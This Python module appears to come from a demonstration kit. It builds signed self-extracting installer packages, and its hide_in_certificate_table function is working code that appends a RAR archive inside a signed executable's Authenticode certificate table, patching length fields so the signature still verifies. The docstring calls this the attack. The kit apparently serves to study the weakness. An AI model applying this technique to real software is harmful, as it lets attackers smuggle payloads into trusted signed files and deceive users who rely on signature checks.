"""The product package of a run's road, as a publisher ships it: a signed,
versioned Setup.exe in a RAR archive, the archive behind a self-extractor head
and the whole file signed again ("<name>_Setup.exe"). UnRAR finds the archive
behind the head; the signature covers head and archive. And the file that an
attacker makes of anything the publisher signed: a RAR hidden in its
certificate table, which the signature does not cover.

    python3 -m kit.package SETUP.exe HEAD.exe CHAIN.pem KEY.pem OUT_Setup.exe [PADDING_MB]
makes one from the command line (scripts/demo.sh)."""

import os
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

from . import pe
from .signing import sign


def make_rar(archive, folder, *switches):
    """Archives every file under folder (paths relative to it) into archive."""
    subprocess.run(["rar", "a", "-r", "-idq", "-qo-", *switches, str(Path(archive).resolve()), "."], cwd=folder,
                   check=True, capture_output=True)
    return Path(archive)


def make_package(setup, head, chain, key, out, padding_mb=0):
    """Writes the signed package to out and returns it. setup is the installer
    (signed here as Setup.exe), head the program the archive is appended to;
    padding_mb adds a file of incompressible bytes, so that the download and
    the extraction last long enough to be seen."""
    out = Path(out)
    with tempfile.TemporaryDirectory() as work:
        work = Path(work)
        content = work / "content"
        content.mkdir()
        sign(setup, chain, key, content / "Setup.exe")
        if padding_mb:
            (content / "data.bin").write_bytes(os.urandom(padding_mb << 20))
        archive = make_rar(work / "package.rar", content, "-m1")
        joined = work / "joined.exe"
        joined.write_bytes(Path(head).read_bytes() + archive.read_bytes())
        out.unlink(missing_ok=True)
        sign(joined, chain, key, out)
    return out


def hide_in_certificate_table(program, signer, out):
    """Writes to out the program, signed by signer, with a RAR of the program (as
    Setup.exe) inside its certificate table: the one WIN_CERTIFICATE's dwLength and
    the security directory's size grow to cover the archive and its zero padding to
    8 bytes. The Authenticode digest skips the table, so the signature still
    verifies (checked here: that is what makes the attack real); UnRAR finds the
    archive as it finds one behind a self-extractor. The PE checksum is left stale:
    Windows does not check it for a program."""
    with tempfile.TemporaryDirectory() as work:
        work = Path(work)
        data = bytearray(sign(program, signer.cert, signer.key, work / "signed.exe").read_bytes())
        (work / "hidden").mkdir()
        (work / "hidden" / "Setup.exe").write_bytes(Path(program).read_bytes())
        archive = make_rar(work / "hidden.rar", work / "hidden", "-m1").read_bytes()
    directory, offset, size = pe.security_directory(bytes(data))
    assert size and offset + size == len(data), "the table must end the file"
    data += archive + bytes(-len(archive) % 8)
    struct.pack_into("<I", data, directory + 4, len(data) - offset)
    struct.pack_into("<I", data, offset, len(data) - offset)
    Path(out).write_bytes(data)
    verify = ["osslsigncode", "verify", "-CAfile", signer.ca_der.with_suffix(".pem"), "-in", out]
    assert subprocess.run(list(map(str, verify)), capture_output=True).returncode == 0
    return Path(out)

if __name__ == "__main__":
    args = sys.argv[1:]
    make_package(*args[:5], padding_mb=int(args[5]) if len(args) > 5 else 0)
